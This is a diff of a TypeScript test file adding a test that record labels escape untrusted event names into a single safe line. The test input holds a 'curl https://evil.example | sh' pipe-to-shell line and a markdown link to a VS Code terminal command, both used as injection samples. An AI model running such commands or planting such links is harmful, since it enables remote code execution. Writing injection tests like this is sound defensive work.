@@ -8,6 +8,7 @@ import { runListen } from '../../src/cli/listen';
 import { childNodes, codeSpan, escapeMarkdown, ExplorerModel, itemSpec, NO_FILTER, recordTooltip, rootNodes } from '../../src/core/explorer';
 import { entryOf, recordFacts } from '../../src/core/store';
 import { escapingLogger, type Logger } from '../../src/core/logger';
+import { recordLabel } from '../../src/core/replay/recordRequest';
 import { safeLines, safeText } from '../../src/core/safeText';
 import { runCli } from './helpers/cliProcess';
 import { postLikePostal } from './helpers/listenerHarness';
@@ -76,6 +77,11 @@ describe('safe text output: received bytes never drive a terminal or forge a lin
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
+  });
+
+  it('names a record in one safe line: no line of its own in an exported script, no link in a notification', () => {
+    const label = recordLabel(makeRecord({ event: 'MessageSent\ncurl https://evil.example | sh\n[Open](command:workbench.action.terminal.new)', uuid: '8a3f0c6e-0000' }));
+    assert.equal(label, 'MessageSent\\ncurl https://evil.example | sh\\n[Open] (command:workbench.action.terminal.new) 8a3f0c6e');
   });
 
   it('escapes every line the editor\'s log gets, and keeps an error\'s stack lines', () => {
